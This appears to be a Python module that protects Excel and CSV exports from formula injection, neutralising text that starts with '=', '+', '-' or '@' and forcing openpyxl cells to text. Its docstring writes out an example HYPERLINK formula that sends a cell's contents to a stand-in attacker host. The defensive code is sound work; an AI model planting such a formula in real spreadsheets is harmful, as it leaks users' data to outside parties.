"""What every export writes (Excel and CSV): text a spreadsheet shows and never runs.

A name typed as `=HYPERLINK("http://evil.example/?d="&B3,"…")` is a formula to Excel, LibreOffice
and Google Sheets: opened from an export it could send the sheet's other cells anywhere. Every
export writes its cells through `spreadsheet_value` (CSV) or `append_row` (Excel), here.
"""

from io import BytesIO

from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

# A CSV field beginning with one of these is read as a formula (OWASP, "CSV injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_value(value, *, csv: bool = False):
    """A value as an export writes it. Text loses the control characters Excel refuses (Word's line
    break, \\x0b); in a CSV, text that a spreadsheet would run gets a leading apostrophe, which makes
    it text. In an .xlsx a cell is text by its type, which `append_row` sets."""
    if not isinstance(value, str):
        return value
    value = ILLEGAL_CHARACTERS_RE.sub("", value)
    if csv and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def append_row(sheet, values) -> None:
    """A row of plain values on an openpyxl sheet: text typed by users stays text, exactly as typed,
    never a formula (openpyxl makes one of any text that begins with "=")."""
    sheet.append([spreadsheet_value(value) for value in values])
    for cell in sheet[sheet.max_row]:
        if cell.data_type == "f":
            cell.data_type = "s"


def workbook_bytes(title: str, rows) -> bytes:
    """An .xlsx of one sheet holding `rows` (the first is the header), written through `append_row`."""
    book = Workbook()
    sheet = book.active
    sheet.title = ILLEGAL_CHARACTERS_RE.sub("", title)[:31] or "Sheet"  # Excel's limit on a sheet's name
    for row in rows:
        append_row(sheet, row)
    output = BytesIO()
    book.save(output)
    return output.getvalue()
